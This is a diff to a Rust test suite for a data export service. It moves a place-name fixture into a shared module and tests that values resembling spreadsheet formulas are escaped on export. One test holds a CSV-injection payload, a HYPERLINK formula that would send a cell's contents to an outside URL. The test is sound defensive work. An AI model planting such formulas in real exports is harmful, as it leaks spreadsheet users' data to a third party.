@@ -17,6 +17,7 @@ use wayin_entity::Role;
 use crate::support::app::{AUDIENCE, Client, ISSUER, SECRET, TestApp, token};
 use crate::support::builders::{organisation, record};
 use crate::support::http::{export_address, get_request, send_request};
+use crate::support::places::PLACES;
 use crate::support::{Database, tests_on_both_databases};
 
 tests_on_both_databases![
@@ -30,12 +31,14 @@ tests_on_both_databases![
     a_file_that_cannot_be_made_in_time_is_refused,
 ];
 
-const PLACES: &str = "code,name,kind,within,successor\n\
-    E12000001,=North East,REGION,,\n\
-    E12000002,North West,REGION,,\n\
-    E06000001,Hartlepool,LOCAL_AUTHORITY,E12000001,\n\
-    E06000008,Blackburn,LOCAL_AUTHORITY,E12000002,\n\
-    E06000009,Blackpool,LOCAL_AUTHORITY,E12000002,\n";
+/// [`PLACES`] with more local authorities, and a region with a name that looks like a formula.
+fn places() -> String {
+    let places = PLACES.replace(",North East,", ",=North East,");
+    format!(
+        "{places}E06000008,Blackburn,LOCAL_AUTHORITY,E12000002,\n\
+         E06000009,Blackpool,LOCAL_AUTHORITY,E12000002,\n"
+    )
+}
 
 const FUNDER: &str = "GB-CHC-20";
 const FILES: [&str; 5] = ["pattern", "grid", "distribution", "flows", "associations"];
@@ -44,7 +47,7 @@ const FILES: [&str; 5] = ["pattern", "grid", "distribution", "flows", "associati
 /// organisations: enough in some cells to be counted, too few in others.
 async fn mixed(database: Database) -> TestApp {
     let app = TestApp::start(database).await;
-    app.places(PLACES).await;
+    app.places(&places()).await;
     let records: Vec<Value> = (0..240)
         .map(|number: usize| {
             let place = match number % 24 {
@@ -556,7 +559,7 @@ async fn a_file_is_asked_for_by_post_as_by_get(database: Database) {
 
 async fn what_looks_like_a_formula_is_none(database: Database) {
     let app = TestApp::start(database).await;
-    app.places(PLACES).await;
+    app.places(&places()).await;
     let formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")";
     app.publish(&[record("1")
         .at("E06000001")
@@ -576,7 +579,7 @@ async fn what_looks_like_a_formula_is_none(database: Database) {
     };
     assert_eq!(
         labels("REGION").await,
-        ["'=North East", "North West", "Not known"]
+        ["'=North East", "North West", "West Midlands", "Not known"]
     );
     assert_eq!(
         labels("LEAD_ORGANISATION").await,
